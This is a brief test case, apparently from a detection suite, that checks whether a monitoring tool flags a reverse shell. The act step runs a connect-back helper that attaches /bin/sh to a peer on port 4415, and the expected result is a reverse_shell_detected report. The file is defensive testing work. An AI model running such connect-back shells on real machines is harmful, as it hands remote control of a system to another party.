# R15: a program of its own becomes a shell, its parent gone
# stage: behaviour
# expect: reverse_shell_detected
#   detection.reason: ~outbound
#   reverse_shell.process_list.length: 1
#   reverse_shell.process_list.0.process_id: $shell
#   reverse_shell.process_list.0.network_connection_list.0.destination_port: 4415

#: prepare
. lib/peers.sh
peer 4415
#: act
. lib/peers.sh
act
/opt/connect-back 4415 /bin/sh < /dev/null > /dev/null 2>&1
who shell /bin/sh
await 'at $shell 0 socket:* && at $shell ../exe /usr/bin/dash'
